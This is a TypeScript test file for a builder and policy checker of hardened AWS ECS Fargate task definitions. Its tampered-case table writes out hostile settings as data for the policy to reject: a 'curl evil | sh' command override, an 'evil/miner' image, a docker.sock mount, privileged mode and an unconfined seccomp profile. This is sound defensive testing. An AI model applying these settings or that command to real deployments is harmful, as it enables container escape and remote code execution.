import { describe, expect, it } from 'vitest';
import { mintOrgScope } from '../kernel/auth/org-scope';
import type { TaskDefinitionRequest } from '../kernel/runtime/task-definition';
import { resolveServiceSpec, type ResolvedServiceSpec } from '../projects/service-spec';
import { buildTaskDefinition, isRootUser, secretValueFrom, tmpfsSizeMiB, UNPRIVILEGED_USER, type TaskDefinitionInputs } from './task-definition';
import { assertTaskPolicy, checkTaskPolicy, TaskPolicyError, type PolicyContext } from './task-policy';

const scope = mintOrgScope('o_0123456789abcdef0123456789abcdef');
const SECRET_ARN = 'arn:aws:secretsmanager:eu-west-1:111122223333:secret:rampart/o_0123456789abcdef0123456789abcdef/svc_1-AbCdEf';
const VERSION = '5f1c8a4e-0000-4000-8000-000000000001';
const ROLE = 'arn:aws:iam::111122223333:role/rampart-prod-exec-p_1';
const REPOSITORY = '111122223333.dkr.ecr.eu-west-1.amazonaws.com/ecr-public/nginx/nginx-unprivileged';
const DIGEST = `sha256:${'a'.repeat(64)}`;

const web: ResolvedServiceSpec = resolveServiceSpec({ name: 'web', type: 'web', source: { image: 'public.ecr.aws/nginx/nginx-unprivileged:1.27-alpine' }, cpu: 256, memory: 512, port: 8080 });

function inputs(overrides: Partial<TaskDefinitionInputs> = {}): TaskDefinitionInputs {
  return {
    scope,
    projectId: 'p_1',
    serviceId: 'svc_1',
    deploymentId: 'dep_1',
    spec: web,
    image: { repository: REPOSITORY, digest: DIGEST, architecture: 'arm64', user: '101' },
    environment: { secretArn: SECRET_ARN, versionId: VERSION, names: ['DATABASE_URL', 'API_KEY'] },
    executionRoleArn: ROLE,
    logs: { group: '/rampart/prod/services/o_0123/svc_1', region: 'eu-west-1' },
    ...overrides,
  };
}

const context: PolicyContext = { secretArn: SECRET_ARN, versionId: VERSION, executionRoleArn: ROLE, imageRepositories: ['111122223333.dkr.ecr.eu-west-1.amazonaws.com/ecr-public'] };

/** The built definition with one change, as an attacker (or a bug) would make it. */
function tampered(change: (definition: Record<string, any>) => void): TaskDefinitionRequest {
  const definition = structuredClone(buildTaskDefinition(inputs())) as unknown as Record<string, any>;
  change(definition);
  return definition as unknown as TaskDefinitionRequest;
}

const rulesBroken = (request: TaskDefinitionRequest) => checkTaskPolicy(request, context).map((v) => v.path);

describe('buildTaskDefinition', () => {
  const built = buildTaskDefinition(inputs());
  const container = built.containerDefinitions[0];

  it('builds a definition the policy accepts', () => {
    expect(checkTaskPolicy(built, context)).toEqual([]);
  });

  it('pins the image by digest and runs Fargate in awsvpc with the spec’s size, on the image’s architecture', () => {
    expect(container.image).toBe(`${REPOSITORY}@${DIGEST}`);
    expect(built).toMatchObject({ requiresCompatibilities: ['FARGATE'], networkMode: 'awsvpc', cpu: '256', memory: '512', runtimePlatform: { cpuArchitecture: 'ARM64', operatingSystemFamily: 'LINUX' } });
    expect(buildTaskDefinition(inputs({ image: { ...inputs().image, architecture: 'amd64' } })).runtimePlatform.cpuArchitecture).toBe('X86_64');
  });

  it('hardens the container: non-root, read-only root, capabilities dropped, init process, not privileged', () => {
    expect(container).toMatchObject({
      user: '101',
      readonlyRootFilesystem: true,
      privileged: false,
      linuxParameters: { capabilities: { add: [], drop: ['ALL'] }, initProcessEnabled: true },
      stopTimeout: 30,
    });
    expect(built).not.toHaveProperty('taskRoleArn');
    expect(built.executionRoleArn).toBe(ROLE);
  });

  it('runs an image that names root, or no user, as an unprivileged uid', () => {
    for (const user of [undefined, '', 'root', '0', '0:0', 'root:wheel', '000']) {
      expect(buildTaskDefinition(inputs({ image: { ...inputs().image, user } })).containerDefinitions[0].user, String(user)).toBe(UNPRIVILEGED_USER);
    }
    expect(buildTaskDefinition(inputs({ image: { ...inputs().image, user: 'node' } })).containerDefinitions[0].user).toBe('node');
  });

  it('passes the service’s variables only as secrets pinned to this deployment’s version; environment holds PORT alone', () => {
    expect(container.environment).toEqual([{ name: 'PORT', value: '8080' }]);
    expect(container.secrets).toEqual([
      { name: 'API_KEY', valueFrom: `${SECRET_ARN}:API_KEY::${VERSION}` },
      { name: 'DATABASE_URL', valueFrom: `${SECRET_ARN}:DATABASE_URL::${VERSION}` },
    ]);
    expect(secretValueFrom('arn:s', 'N', 'v')).toBe('arn:s:N::v');
  });

  it('makes /tmp writable in memory for any uid, where nothing runs, and nothing else', () => {
    expect(container.linuxParameters.tmpfs).toEqual([{ containerPath: '/tmp', size: 64, mountOptions: ['rw', 'nosuid', 'nodev', 'noexec', 'mode=1777'] }]);
    expect(tmpfsSizeMiB(512)).toBe(64);
    expect(tmpfsSizeMiB(8192)).toBe(256);
    expect(built.volumes).toEqual([]);
    expect(container.mountPoints).toEqual([]);
    expect(built).not.toHaveProperty('ephemeralStorage');
  });

  it('maps the web port, and none for a worker', () => {
    expect(container.portMappings).toEqual([{ containerPort: 8080, protocol: 'tcp', name: 'http', appProtocol: 'http' }]);
    const worker = buildTaskDefinition(inputs({ spec: resolveServiceSpec({ name: 'jobs', type: 'worker', source: { image: 'acme/jobs:1' }, cpu: 512, memory: 1024 }) }));
    expect(worker.containerDefinitions[0].portMappings).toEqual([]);
    expect(worker.containerDefinitions[0].environment).toEqual([]);
    expect(checkTaskPolicy(worker, context)).toEqual([]);
  });

  it('logs through awslogs in non-blocking mode to the service’s group, and tags the task with its ids', () => {
    expect(container.logConfiguration).toEqual({
      logDriver: 'awslogs',
      options: { 'awslogs-group': '/rampart/prod/services/o_0123/svc_1', 'awslogs-region': 'eu-west-1', 'awslogs-stream-prefix': 'svc_1', mode: 'non-blocking', 'max-buffer-size': '25m' },
    });
    expect(built.tags).toEqual([
      { key: 'rampart:org', value: scope.orgId },
      { key: 'rampart:project', value: 'p_1' },
      { key: 'rampart:service', value: 'svc_1' },
      { key: 'rampart:deployment', value: 'dep_1' },
    ]);
    expect(built.family).toBe(`rmp-${scope.orgId}-svc_1`);
  });
});

describe('isRootUser', () => {
  it('knows root by name and uid, with or without a group', () => {
    for (const user of [undefined, '', ' ', 'root', '0', '00', '0:1000', 'root:root']) expect(isRootUser(user), JSON.stringify(user)).toBe(true);
    for (const user of ['1', '101', '65532:65532', 'nginx', 'node:node', 'rooty', '10']) expect(isRootUser(user), user).toBe(false);
  });
});

describe('checkTaskPolicy refuses what escapes the hardening', () => {
  const cases: [string, (d: Record<string, any>) => void, string][] = [
    ['the root user', (d) => (d.containerDefinitions[0].user = 'root'), 'containerDefinitions[0].user'],
    ['uid 0 with a group', (d) => (d.containerDefinitions[0].user = '0:0'), 'containerDefinitions[0].user'],
    ['no user at all', (d) => delete d.containerDefinitions[0].user, 'containerDefinitions[0].user'],
    ['a writable root filesystem', (d) => (d.containerDefinitions[0].readonlyRootFilesystem = false), 'containerDefinitions[0].readonlyRootFilesystem'],
    ['an added capability', (d) => (d.containerDefinitions[0].linuxParameters.capabilities.add = ['SYS_PTRACE']), 'containerDefinitions[0].linuxParameters.capabilities.add'],
    ['capabilities kept', (d) => (d.containerDefinitions[0].linuxParameters.capabilities.drop = ['NET_RAW']), 'containerDefinitions[0].linuxParameters.capabilities.drop'],
    ['no init process', (d) => (d.containerDefinitions[0].linuxParameters.initProcessEnabled = false), 'containerDefinitions[0].linuxParameters.initProcessEnabled'],
    ['privileged mode', (d) => (d.containerDefinitions[0].privileged = true), 'containerDefinitions[0].privileged'],
    ['host networking', (d) => (d.networkMode = 'host'), 'networkMode'],
    ['bridge networking', (d) => (d.networkMode = 'bridge'), 'networkMode'],
    ['EC2 instead of Fargate', (d) => (d.requiresCompatibilities = ['EC2']), 'requiresCompatibilities'],
    ['an image by tag', (d) => (d.containerDefinitions[0].image = `${REPOSITORY}:latest`), 'containerDefinitions[0].image'],
    ['an image from another registry', (d) => (d.containerDefinitions[0].image = `docker.io/evil/miner@${DIGEST}`), 'containerDefinitions[0].image'],
    ['another project’s repository', (d) => (d.containerDefinitions[0].image = `111122223333.dkr.ecr.eu-west-1.amazonaws.com/projects/p_2/app@${DIGEST}`), 'containerDefinitions[0].image'],
    ['a secret in environment', (d) => d.containerDefinitions[0].environment.push({ name: 'DATABASE_URL', value: 'postgres://u:p@h/db' }), 'containerDefinitions[0].environment[1]'],
    ['a secret of another service', (d) => (d.containerDefinitions[0].secrets[0].valueFrom = `arn:aws:secretsmanager:eu-west-1:111122223333:secret:rampart/o_x/svc_2-ZZZZZZ:API_KEY::${VERSION}`), 'containerDefinitions[0].secrets[0].valueFrom'],
    ['a secret by stage instead of version', (d) => (d.containerDefinitions[0].secrets[0].valueFrom = `${SECRET_ARN}:API_KEY:AWSCURRENT:`), 'containerDefinitions[0].secrets[0].valueFrom'],
    ['a whole secret instead of one key', (d) => (d.containerDefinitions[0].secrets[0].valueFrom = SECRET_ARN), 'containerDefinitions[0].secrets[0].valueFrom'],
    ['a variable that overrides PORT', (d) => d.containerDefinitions[0].secrets.push({ name: 'PORT', valueFrom: `${SECRET_ARN}:PORT::${VERSION}` }), 'containerDefinitions[0].secrets[2]'],
    ['an out-of-range CPU/memory pair', (d) => ((d.cpu = '256'), (d.memory = '4096')), 'memory'],
    ['a task role', (d) => (d.taskRoleArn = 'arn:aws:iam::111122223333:role/admin'), 'taskRoleArn'],
    ['another execution role', (d) => (d.executionRoleArn = 'arn:aws:iam::111122223333:role/rampart-prod-exec-p_2'), 'executionRoleArn'],
    ['the host’s PID namespace', (d) => (d.pidMode = 'host'), 'pidMode'],
    ['a host path volume', (d) => d.volumes.push({ name: 'docker', host: { sourcePath: '/var/run/docker.sock' } }), 'volumes[0]'],
    ['an EFS volume', (d) => d.volumes.push({ name: 'shared', efsVolumeConfiguration: { fileSystemId: 'fs-1' } }), 'volumes[0]'],
    ['an executable tmpfs', (d) => (d.containerDefinitions[0].linuxParameters.tmpfs[0].mountOptions = ['rw', 'exec', 'mode=1777']), 'containerDefinitions[0].linuxParameters.tmpfs[0]'],
    ['a tmpfs over the root', (d) => (d.containerDefinitions[0].linuxParameters.tmpfs[0].containerPath = '/'), 'containerDefinitions[0].linuxParameters.tmpfs[0]'],
    ['a tmpfs that takes the task’s memory', (d) => (d.containerDefinitions[0].linuxParameters.tmpfs[0].size = 512), 'containerDefinitions[0].linuxParameters.tmpfs'],
    ['a device', (d) => (d.containerDefinitions[0].linuxParameters.devices = [{ hostPath: '/dev/kvm' }]), 'containerDefinitions[0].linuxParameters.devices'],
    ['Docker security options', (d) => (d.containerDefinitions[0].dockerSecurityOptions = ['seccomp=unconfined']), 'containerDefinitions[0].dockerSecurityOptions'],
    ['a second container', (d) => d.containerDefinitions.push({ ...d.containerDefinitions[0], name: 'sidecar' }), 'containerDefinitions'],
    ['a blocking log driver', (d) => (d.containerDefinitions[0].logConfiguration.options.mode = 'blocking'), 'containerDefinitions[0].logConfiguration.options.mode'],
    ['another log driver', (d) => (d.containerDefinitions[0].logConfiguration.logDriver = 'splunk'), 'containerDefinitions[0].logConfiguration.logDriver'],
    ['a stop timeout beyond Fargate’s 120 s', (d) => (d.containerDefinitions[0].stopTimeout = 600), 'containerDefinitions[0].stopTimeout'],
    ['oversized ephemeral storage', (d) => (d.ephemeralStorage = { sizeInGiB: 500 }), 'ephemeralStorage.sizeInGiB'],
    ['a privileged port', (d) => (d.containerDefinitions[0].portMappings[0].containerPort = 80), 'containerDefinitions[0].portMappings[0]'],
    ['a mount of a volume the task does not have', (d) => d.containerDefinitions[0].mountPoints.push({ sourceVolume: 'docker', containerPath: '/var/run', readOnly: false }), 'containerDefinitions[0].mountPoints[0]'],
    ['a command override', (d) => (d.containerDefinitions[0].command = ['sh', '-c', 'curl evil | sh']), 'containerDefinitions[0].command'],
  ];

  it.each(cases)('%s', (_name, change, path) => {
    expect(rulesBroken(tampered(change))).toContain(path);
  });

  it('reports every violation at once, and the error names them without any value', () => {
    const request = tampered((d) => {
      d.containerDefinitions[0].user = 'root';
      d.containerDefinitions[0].privileged = true;
      d.containerDefinitions[0].environment.push({ name: 'API_KEY', value: 'sk_live_canary_4f2a' });
    });
    expect(rulesBroken(request)).toEqual(['containerDefinitions[0].user', 'containerDefinitions[0].privileged', 'containerDefinitions[0].environment[1]']);
    let thrown: unknown;
    try {
      assertTaskPolicy(request, context);
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(TaskPolicyError);
    expect((thrown as Error).message).toContain('a non-root user');
    expect((thrown as Error).message).not.toContain('sk_live_canary_4f2a');
  });
});
